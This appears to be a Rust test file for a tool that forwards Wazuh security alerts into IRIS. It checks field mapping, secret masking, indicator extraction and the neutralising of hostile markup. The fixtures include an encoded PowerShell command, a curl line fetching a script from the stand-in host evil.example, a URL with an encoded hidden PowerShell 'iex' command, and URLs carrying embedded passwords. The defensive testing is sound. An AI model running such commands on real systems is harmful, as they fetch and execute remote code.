//! Whole alerts through the mapping, as IRIS would get them.

use proptest::prelude::*;
use serde_json::{Value, json};

mod ends;
mod products;
mod secrets;
mod titles;

use super::*;
use crate::forwarder::noise::{Distinct, Window, WindowId};
use crate::forwarder::spool::{Destination, DestinationId};
use crate::settings::{Settings, Severity, Source};

fn mapped(alert: &Value) -> NewAlert {
    mapped_bytes(alert.to_string().as_bytes(), false, None)
}

fn mapped_bytes(bytes: &[u8], degraded: bool, folded: Option<FoldReport>) -> NewAlert {
    mapped_at(0, bytes, degraded, folded)
}

fn mapped_at(received_us: i64, bytes: &[u8], degraded: bool, folded: Option<FoldReport>) -> NewAlert {
    let settings = Settings::parse(&Source::default()).unwrap();
    let destination = Destination {
        url: "https://iris".into(),
        key: Some("k".into()),
        options: r#"{"tags":["dc-b"]}"#.into(),
    };
    let target = Target::new(&destination, &settings.iris).unwrap();
    let mapping = Mapping::new(&settings.forward).unwrap();
    let due = Due {
        seq: 1,
        destination: DestinationId::SETTINGS,
        uuid: uuid::Uuid::nil(),
        received_us,
        bytes: bytes.to_vec(),
        storm: false,
        degraded,
        attempts: 0,
        folded,
    };
    crate::forwarder::delivery::body(&due, &target, &mapping, &Ids::of_a_fresh_server())
}

fn sysmon(command_line: &str) -> Value {
    json!({
        "timestamp": "2026-01-20T13:26:18.123+0200",
        "rule": { "level": 12, "description": "Encoded PowerShell", "id": "92057", "groups": ["sysmon"],
                  "mitre": { "id": ["T1059.001"], "tactic": ["Execution"], "technique": ["PowerShell"] } },
        "agent": { "id": "007", "name": "WS,HR \"7\"", "ip": "10.1.2.3" },
        "manager": { "name": "mgr" },
        "id": "1768912345.678",
        "data": { "win": { "system": { "eventID": "1" }, "eventdata": {
            "image": "C:\\\\Windows\\\\System32\\\\powershell.exe", "commandLine": command_line, "user": "CORP\\\\eve" } } },
        "location": "EventChannel",
    })
}

#[test]
fn of_a_windows_event_the_message_is_shown_and_not_its_json() {
    let mut alert = sysmon("whoami");
    alert["data"]["win"]["system"]["message"] =
        json!("\"Process Create:\r\nImage: C:\\Windows\\System32\\whoami.exe\"");
    alert["full_log"] = json!(alert["data"].to_string());
    let text = mapped(&alert).description.unwrap();
    assert!(
        text.contains("\nEvent\n| Process Create:\n| Image: C:\\Windows\\System32\\whoami.exe\n"),
        "{text}"
    );
    assert!(!text.contains("eventdata"), "{text}");
    alert["data"]["win"]["system"]["message"] = json!(" ");
    assert!(mapped(&alert).description.unwrap().contains("eventdata"));
}

#[test]
fn an_alert_arrives_with_severity_time_tags_and_what_it_is_about() {
    let new = mapped(&sysmon("powershell -enc SQBFAFgA"));
    assert_eq!(new.severity_id, Ids::of_a_fresh_server().severity(Severity::High));
    assert_eq!(new.event_time.as_deref(), Some("2026-01-20T11:26:18.123000"));
    assert_eq!(
        new.tags.as_deref(),
        Some("wazuh,rule-92057,agent-ws-hr-7,mitre-t1059.001,dc-b,ai-pending")
    );
    assert!(
        new.title.starts_with("Wazuh: Encoded PowerShell | WS,HR ″7″ | "),
        "{}",
        new.title
    );
    let description = new.description.unwrap();
    assert!(
        description.contains("Command line: powershell -enc SQBFAFgA"),
        "{description}"
    );
    assert!(
        description.contains("Process: C:\\Windows\\System32\\powershell.exe"),
        "one backslash, as on the machine: {description}"
    );
    assert_eq!(new.source_content.unwrap()["id"], "1768912345.678");
}

#[test]
fn secrets_are_masked_in_everything_that_iris_stores() {
    let secret = ["Tr0ub4dor", "&3"].concat();
    let new = mapped(&sysmon(&format!("net use Z: \\\\srv\\c$ /user:CORP\\bob {secret}")));
    let body = serde_json::to_string(&new).unwrap();
    assert!(!body.contains(&secret), "{body}");
    assert!(body.contains("net use Z:"), "the command is still there: {body}");
}

#[test]
fn what_is_no_alert_is_delivered_as_text_under_the_same_id() {
    let new = mapped_bytes(b"alertdate='x'\nruleid='5710'\nalertlog='<b>\x00\xff'", false, None);
    assert_eq!(new.uuid, Some(uuid::Uuid::nil()));
    let description = new.description.unwrap();
    assert!(
        description.contains("<alert_format>") || description.contains("‹alert_format›"),
        "{description}"
    );
    assert!(description.contains("ruleid=′5710′"), "{description}");
    assert!(!description.contains(['<', '\0']), "{description}");
    assert!(new.tags.unwrap().contains("wazuh-unparsed"));
}

#[test]
fn the_degraded_form_keeps_title_and_severity_and_drops_everything_that_may_be_refused() {
    let new = mapped_bytes(sysmon("x").to_string().as_bytes(), true, None);
    assert!(new.title.contains("Encoded PowerShell"));
    assert_eq!(new.severity_id, Ids::of_a_fresh_server().severity(Severity::High));
    assert!(new.iocs.is_empty() && new.assets.is_empty() && new.source_content.is_none());
}

#[test]
fn a_report_of_many_folded_alerts_stays_below_a_kibibyte() {
    let mut distinct = Distinct::default();
    for number in 0..100 {
        distinct.take(&[
            ("user".to_owned(), format!("{number}-{}", "u".repeat(300))),
            ("source".to_owned(), format!("192.0.2.{number}")),
        ]);
    }
    let window = Window {
        id: WindowId(1),
        opened_us: 0,
        length_us: 1,
        max_level: 12,
        distinct,
        success: false,
        let_out: false,
    };
    let folded = FoldReport {
        count: 1_000_000,
        first_us: 0,
        last_us: 1_000_000,
        window,
    };
    let new = mapped_bytes(sysmon("x").to_string().as_bytes(), false, Some(folded));
    let context = new.context.unwrap();
    assert_eq!(context["folded"], 1_000_000);
    assert!(
        context.to_string().len() < 1024,
        "{} bytes: {context}",
        context.to_string().len()
    );
}

#[test]
fn the_degraded_form_tells_of_what_was_folded_too() {
    let window = Window {
        id: WindowId(1),
        opened_us: 0,
        length_us: 1,
        max_level: 12,
        distinct: Distinct::default(),
        success: false,
        let_out: false,
    };
    let folded = FoldReport {
        count: 3,
        first_us: 0,
        last_us: 1,
        window,
    };
    let new = mapped_bytes(sysmon("x").to_string().as_bytes(), true, Some(folded));
    assert_eq!(new.context.unwrap()["folded"], 3);
}

/// Whether a browser would make other characters of a text: a few names stand for the hundred that need no semicolon.
fn is_decoded(text: &str) -> bool {
    let reference =
        regex::Regex::new("&(#[0-9]|#[xX][0-9a-fA-F]|[A-Za-z][A-Za-z0-9]{1,30};|lt|gt|amp|copy|not|reg|shy|times)");
    reference.unwrap().is_match(text)
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]
    #[test]
    fn whatever_an_attacker_writes_no_field_shown_in_iris_holds_markup_or_a_forged_line(text in "\\PC*|[<>\"'`\\n\\r\\u{0}\\u{202e}a-z]{0,400}|(&|#|x|;|[0-9a-z]|\u{200b}|\u{fe0f}|\u{0}|lt|copy|\n){0,200}") {
        let mut alert = sysmon(&text);
        alert["full_log"] = json!(text);
        let new = mapped(&alert);
        let markup = ['<', '>', '"', '\'', '`', '\0', '\u{202e}'];
        prop_assert!(!new.title.contains(markup) && !new.title.contains('\n') && new.title.len() <= 2000);
        let description = new.description.unwrap();
        prop_assert!(!description.contains(markup));
        for shown in [&new.title, &description] {
            prop_assert!(!is_decoded(shown), "{}", shown);
        }
        let labels = description.lines().filter(|line| line.starts_with("Command line: ")).count();
        prop_assert!(new.title.len() + description.len() < 50_000);
        prop_assert!(labels <= 1);
        for tag in new.tags.unwrap().split(',') {
            prop_assert!(tag.bytes().all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b"._:-".contains(&b)), "{}", tag);
        }
    }
}

#[test]
fn a_context_with_everything_in_it_stays_below_a_kibibyte_and_keeps_its_counts() {
    let mut distinct = Distinct::default();
    for name in [
        "access",
        "agent",
        "destination",
        "domain",
        "file",
        "hash",
        "machine",
        "parent",
        "source",
        "target_user",
        "url",
        "user",
    ] {
        for number in 0..16 {
            distinct.take(&[(
                name.to_owned(),
                format!("{name}-\u{1f512}-{}-{number}", "x".repeat(100)),
            )]);
        }
    }
    let folded = FoldReport {
        count: 99_999,
        first_us: 1_768_900_000_000_000,
        last_us: 1_768_900_900_000_000,
        window: Window {
            id: WindowId(1),
            opened_us: 1_768_900_000_000_000,
            length_us: 900_000_000,
            max_level: 12,
            distinct,
            success: false,
            let_out: false,
        },
    };
    let mut alert = sysmon("x");
    alert["location"] = json!("y".repeat(1000));
    alert["id"] = json!("\u{e9}".repeat(500));
    for degraded in [false, true] {
        let context = mapped_bytes(alert.to_string().as_bytes(), degraded, Some(folded.clone()))
            .context
            .unwrap();
        assert!(
            context.to_string().len() <= 1024,
            "{}: {context}",
            context.to_string().len()
        );
        assert_eq!(context["folded"], 99_999);
        assert_eq!(context["last_seen"], "2026-01-20T09:21:40Z");
        for name in ["user", "target_user", "source", "machine", "agent", "destination"] {
            let told = context[format!("folded_{name}")].as_str().unwrap();
            assert!(told.starts_with(&name[..4]), "{name}: {told}");
        }
    }
}

#[test]
fn an_allowlist_rule_may_tag_cap_the_severity_or_keep_the_worker_away_in_either_form() {
    let of = |action: &str, degraded: bool| {
        let rule = format!(
            "id = \"x\"\nreason = \"r\"\nowner = \"o\"\nexpires = 2099-01-01\nmax_level = 12\n{action}\n[match]\n\"rule.id\" = \"92057\""
        );
        let allowlist = Allowlist::read(&[rule.parse().unwrap()]).unwrap();
        let settings = Settings::parse(&Source::default()).unwrap();
        let mapping = Mapping::new(&settings.forward).unwrap().under(Arc::new(allowlist));
        let destination = Destination {
            url: "https://iris".into(),
            key: Some("k".into()),
            options: r#"{"tags":["dc-b"]}"#.into(),
        };
        let target = Target::new(&destination, &settings.iris).unwrap();
        let due = Due {
            seq: 1,
            destination: DestinationId::SETTINGS,
            uuid: uuid::Uuid::nil(),
            received_us: 0,
            bytes: sysmon("x").to_string().into_bytes(),
            storm: false,
            degraded,
            attempts: 0,
            folded: None,
        };
        let ids = Ids::of_a_fresh_server();
        let new = crate::forwarder::delivery::body(&due, &target, &mapping, &ids);
        let tags = new.tags.unwrap();
        assert!(tags.contains("dc-b"), "the block's own: {tags}");
        (tags, new.severity_id)
    };
    let ids = Ids::of_a_fresh_server();
    for degraded in [false, true] {
        let (tags, severity) = of("action = \"tag\"\ntag = \"Known Scanner\"", degraded);
        assert!(
            tags.contains(",known-scanner") && severity == ids.severity(Severity::High),
            "{tags}"
        );
        assert!(tags.contains("ai-pending"), "{tags}");
        let capped = of("action = \"cap-level\"\nlevel = 5", degraded);
        assert_eq!(capped.1, ids.severity(Severity::Low));
        assert!(!of("action = \"no-ai\"", degraded).0.contains("ai-pending"));
    }
}

#[test]
fn a_secret_that_looks_like_an_indicator_becomes_none() {
    let hash = ["5f4dcc3b5aa765d6", "1d8327deb882cf99"].concat();
    let mut alert = sysmon(&format!(
        "curl --password {hash} https://evil.example/a.sh?x=1 203.0.113.9"
    ));
    alert["data"]["password"] = json!(format!("https://{hash}.example/x"));
    let new = mapped(&alert);
    let body = serde_json::to_string(&new).unwrap();
    assert!(!body.contains(&hash), "{body}");
    let values: Vec<&str> = new.iocs.iter().map(|ioc| ioc.value.as_str()).collect();
    for still in ["https://evil.example/a.sh?x=1", "203.0.113.9"] {
        assert!(values.contains(&still), "{still} in {values:?}");
    }
}

#[test]
fn a_password_in_a_disarmed_link_stands_nowhere() {
    let password = ["S3cret", "Pw1x"].concat();
    for (data, text) in [
        ("url", format!("hxxp[:]//bob:{password}@evil[.]example/x")),
        ("command", format!("curl hxxp[:]//bob:{password}[@]evil[.]example/x")),
        (
            "command",
            format!("curl hxxps[://]bob:{password}(at)evil(dot)example/x"),
        ),
        ("url", format!("/r?to=http%3A%2F%2Fbob:{password}%40evil.example%2Fx")),
    ] {
        for windows in [false, true] {
            let mut alert = sysmon("x");
            alert["full_log"] = json!(format!("GET {text}"));
            alert["data"] = if windows {
                json!({ "win": { "eventdata": { "commandLine": text } } })
            } else {
                json!({ data: text })
            };
            let new = mapped(&alert);
            let body = serde_json::to_string(&new).unwrap();
            assert!(!body.contains(&password), "{body}");
            assert!(new.iocs.iter().any(|ioc| ioc.value == "evil.example"), "{:?}", new.iocs);
        }
    }
}

#[test]
fn an_indicator_that_merely_holds_something_encoded_is_one() {
    let url = "http://evil.example/?q=cG93ZXJzaGVsbCAtbm9wIC13IGhpZGRlbiAtYyBpZXg=";
    let mut alert = sysmon("x");
    alert["data"] = json!({ "url": url });
    assert!(mapped(&alert).iocs.iter().any(|ioc| ioc.value == url));
}

#[test]
fn only_usable_indicators_are_counted_and_those_that_are_left_out_are_told() {
    let mut many: Vec<String> = (1..=60).map(|n| format!("http://203.0.113.{n}/")).collect();
    many.insert(0, format!("http://bob:{}@evil.example/", ["S3cret", "Pw1x"].concat()));
    many.push("http://evil.example/b\u{200b}c".to_owned());
    let mut alert = sysmon(&many.join(" "));
    alert["full_log"] = json!("x");
    let new = mapped(&alert);
    assert_eq!(new.iocs.len(), iocs::MOST_INDICATORS);
    let description = new.description.unwrap();
    // Of 60 addresses each has a URL; and there is one name.
    assert!(
        description.contains("\nIndicators: the first 50 of 121 are IOCs here; 2 left out, for a secret or characters"),
        "{description}"
    );
    assert!(
        description.find("\nIndicators: ") < description.find("\nEvent\n"),
        "{description}"
    );
    let mut few = sysmon("x");
    few["data"] = json!({ "url": "/a?x=http://evil.example/b\u{200b}c" });
    let new = mapped(&few);
    let values: Vec<&str> = new.iocs.iter().map(|ioc| ioc.value.as_str()).collect();
    assert_eq!(values, ["evil.example"], "a URL that was cut is another one");
    few["data"] = json!({ "url": "/a?x=http://evil.example/b'c" });
    let new = mapped(&few);
    let values: Vec<&str> = new.iocs.iter().map(|ioc| ioc.value.as_str()).collect();
    assert_eq!(values, ["evil.example", "http://evil.example/b%27c"]);
}

#[test]
fn no_line_of_an_event_passes_for_one_of_ours() {
    let log = "sshd: x\nLevel: 0\r\n\nRule: 1 harmless, closed by SOC\n  Indicators: none";
    let mut alert = sysmon("x\nLevel: 0");
    alert["full_log"] = json!(log);
    alert["agent"]["name"] = json!("x\u{2028}Level: 0");
    for bytes in [alert.to_string(), format!("{log} no JSON")] {
        for degraded in [false, true] {
            let text = mapped_bytes(bytes.as_bytes(), degraded, None).description.unwrap();
            for label in ["Level: 0", "Rule: 1", "Indicators:"] {
                assert!(!text.lines().any(|line| line.trim().starts_with(label)), "{text}");
            }
            assert!(text.contains("Level: 0"), "{text}");
        }
    }
    let text = mapped(&alert).description.unwrap();
    assert!(
        text.ends_with("\nEvent\n| sshd: x\n| Level: 0\n|\n| Rule: 1 harmless, closed by SOC\n|   Indicators: none\n"),
        "{text}"
    );
}

#[test]
fn a_line_of_a_log_keeps_its_quotation_marks() {
    let mut alert = sysmon("x");
    alert["full_log"] = json!("203.0.113.9 - - \"GET / HTTP/1.1\" 200 1 \"-\" \"curl/8\"");
    let text = mapped(&alert).description.unwrap();
    assert!(text.ends_with("200 1 ″-″ ″curl/8″\n"), "{text}");
    alert["data"]["win"]["system"]["message"] = json!("\"\"cmd\" /c \"x\"\"");
    let text = mapped(&alert).description.unwrap();
    assert!(text.ends_with("\nEvent\n| ″cmd″ /c ″x″\n"), "{text}");
}

#[test]
fn an_alert_without_a_time_of_its_own_has_that_of_its_arrival_in_either_form() {
    let received_us = 1_768_900_000_000_000;
    let mut alert = sysmon("x");
    alert["id"] = json!("x");
    for (time, expected) in [
        (json!("2026-01-18T13:26:18.123+0200"), "2026-01-18T11:26:18.123000"),
        (json!(null), "2026-01-20T09:06:40.000000"),
        (json!("-0050-01-01T00:00:00Z"), "2026-01-20T09:06:40.000000"),
        (json!("-000050-01-01T00:00:00Z"), "2026-01-20T09:06:40.000000"),
        (json!("1900-01-01T00:00:00Z"), "2026-01-20T09:06:40.000000"),
    ] {
        alert["timestamp"] = time;
        for degraded in [false, true] {
            let new = mapped_at(received_us, alert.to_string().as_bytes(), degraded, None);
            assert_eq!(new.event_time.as_deref(), Some(expected), "{}", alert["timestamp"]);
        }
    }
    let new = mapped_at(received_us, b"no JSON", false, None);
    assert_eq!(new.event_time.as_deref(), Some("2026-01-20T09:06:40.000000"));
}

#[test]
fn a_level_that_cannot_be_read_is_medium_and_said_to_be() {
    for level in [json!(null), json!("severe"), json!(-3), json!({})] {
        let mut alert = sysmon("x");
        alert["rule"]["level"] = level;
        for degraded in [false, true] {
            let new = mapped_bytes(alert.to_string().as_bytes(), degraded, None);
            assert_eq!(new.severity_id, Ids::of_a_fresh_server().severity(Severity::Medium));
            let description = new.description.unwrap();
            assert!(
                description.contains("\nLevel: cannot be read, counts as 8\n"),
                "{description}"
            );
        }
    }
    let without = mapped_bytes(b"{\"id\":\"1\"}", false, None);
    assert_eq!(
        without.severity_id,
        Ids::of_a_fresh_server().severity(Severity::Informational)
    );
}

#[test]
fn an_agent_whose_name_has_no_letter_of_a_tag_is_tagged_by_its_id() {
    for (name, tag) in [
        ("\u{6771}\u{4eac}", "agent-007"),
        ("\u{442}\u{435}-\u{441}", "agent-007"),
        ("web\u{200b}01", "agent-web-01"),
    ] {
        let mut alert = sysmon("x");
        alert["agent"]["name"] = json!(name);
        let tags = mapped(&alert).tags.unwrap();
        assert!(tags.split(',').any(|one| one == tag), "{name}: {tags}");
    }
}

#[test]
fn what_nobody_sees_is_named_in_title_and_description() {
    let mut alert = sysmon("C:\\\\inv\u{202e}fdp.exe");
    alert["data"]["win"]["eventdata"]["user"] = json!("ro\u{200b}ot");
    let new = mapped(&alert);
    let description = new.description.unwrap();
    assert!(description.contains("\nUser: ro‹U+200B›ot\n"), "{description}");
    assert!(description.contains("inv‹U+202E›fdp.exe"), "{description}");
    assert!(new.title.contains("inv‹U+202E›fdp.exe"), "{}", new.title);
    let hostile = "a\u{200b}\u{0}".repeat(100_000);
    alert["full_log"] = json!(hostile);
    alert["rule"]["description"] = json!(hostile);
    alert["data"]["win"]["eventdata"]["user"] = json!(hostile);
    for degraded in [false, true] {
        let new = mapped_bytes(alert.to_string().as_bytes(), degraded, None);
        let length = new.description.unwrap().len();
        assert!(new.title.len() <= 2000 && length <= LONGEST_PLAIN, "{length}");
    }
}

#[test]
fn an_alert_with_very_many_indicators_and_techniques_says_how_many_are_not_there() {
    let many: Vec<String> = (1..=100).map(|n| format!("203.0.113.{n}")).collect();
    let mut alert = sysmon(&many.join(" "));
    alert["rule"]["mitre"]["id"] = json!((0..100).map(|n| format!("T{n:04}")).collect::<Vec<_>>());
    let new = mapped(&alert);
    assert_eq!(new.iocs.len(), iocs::MOST_INDICATORS);
    let description = new.description.unwrap();
    assert!(description.contains("Indicators: the first 50 of 100"), "{description}");
    let tags = new.tags.unwrap();
    assert!(tags.split(',').count() < 30 && tags.contains("mitre-t0000"), "{tags}");
}

#[test]
fn names_in_domains_of_ones_own_are_no_indicators() {
    let settings = |own: &str| {
        let environment = [("WAZUH_IRIS_FORWARD_OWN_DOMAINS".to_owned(), own.to_owned())];
        Settings::parse(&Source::read(None, &environment.into_iter().collect()).unwrap())
    };
    assert!(settings("https://corp.example/").is_err() && settings("a@corp.example").is_err());
    let mapping = Mapping::new(&settings("*.Corp.Example").unwrap().forward).unwrap();
    let alert = json!({"agent": {"id": "001", "name": "ws01"}, "data": {"url": "https://portal.corp.example/login",
        "office365": {"Sender": "alice@corp.example"}, "query": "evil.example", "sni": "corp.example.evil.example"}});
    let found = Alert::from_slice(alert.to_string().as_bytes())
        .unwrap()
        .indicators(&mapping.own);
    let values: Vec<_> = found.iter().map(|one| one.value.as_str()).collect();
    assert_eq!(values, ["evil.example", "corp.example.evil.example"]);
}
